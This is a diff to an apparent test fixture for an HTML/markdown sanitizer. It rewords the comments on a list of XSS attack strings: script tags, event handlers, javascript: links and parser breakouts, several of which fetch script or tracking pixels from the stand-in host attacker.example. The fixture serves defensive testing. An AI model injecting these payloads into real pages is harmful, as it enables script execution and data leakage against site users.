@@ -1,9 +1,9 @@
 /**
- * Stories somebody wrote to run script, fetch something or take over a part of the page. Each holds `alert(` or the host
- * `attacker.example` where it would act, so that a judge in a real browser can listen for both.
+ * Stories written to run script, fetch something or take over a part of the page. Each contains `alert(` or the host
+ * `attacker.example` where it would act, so that a judge in a real browser can detect both.
  */
 export const attackStrings: readonly string[] = [
-  // Script, plainly and in disguise.
+  // Scripts, plain and disguised.
   '<script>alert(1)</script>',
   '<ScRiPt src=https://attacker.example/x.js></sCrIpT>',
   '<script\u000Csrc="//attacker.example/x.js"></script>',
@@ -13,7 +13,7 @@ export const attackStrings: readonly string[] = [
   '<script type="module">import "https://attacker.example/x.js"</script>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
 
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=alert(1)>',
   '<img src=x oNeRrOr=alert(1)//',
   '<img/src=x/onerror=alert(1)>',
@@ -26,7 +26,7 @@ export const attackStrings: readonly string[] = [
   '<td onclick=alert(1)>text</td>',
   '<body onload=alert(1)>text',
 
-  // Addresses that are script.
+  // Addresses that run script.
   '[text](javascript:alert(1))',
   '[text](<javascript:alert(1)>)',
   '[text](JaVaScRiPt:alert(1))',
@@ -58,7 +58,7 @@ export const attackStrings: readonly string[] = [
   'www.attacker.example/"onmouseover="alert(1)',
   'https://host.example/<img/src=x/onerror=alert(1)>',
 
-  // Requests to somebody else.
+  // Requests to other sites.
   '![text](https://attacker.example/pixel.gif)',
   '![text](//attacker.example/pixel.gif)',
   '![text](/\\attacker.example/pixel.gif)',
@@ -120,7 +120,7 @@ export const attackStrings: readonly string[] = [
   '<p><table><a href=javascript:alert(1)>text<table><b onclick=alert(1)>',
   '<plaintext><img src=x onerror=alert(1)>',
 
-  // Out of comments, code, attributes and blocks.
+  // Text that breaks out of comments, code, attributes and blocks.
   '<!--><img src=x onerror=alert(1)>-->',
   '<!--- --!><img src=x onerror=alert(1)> -->',
   '<!-- a --><script>alert(1)</script><!-- b -->',
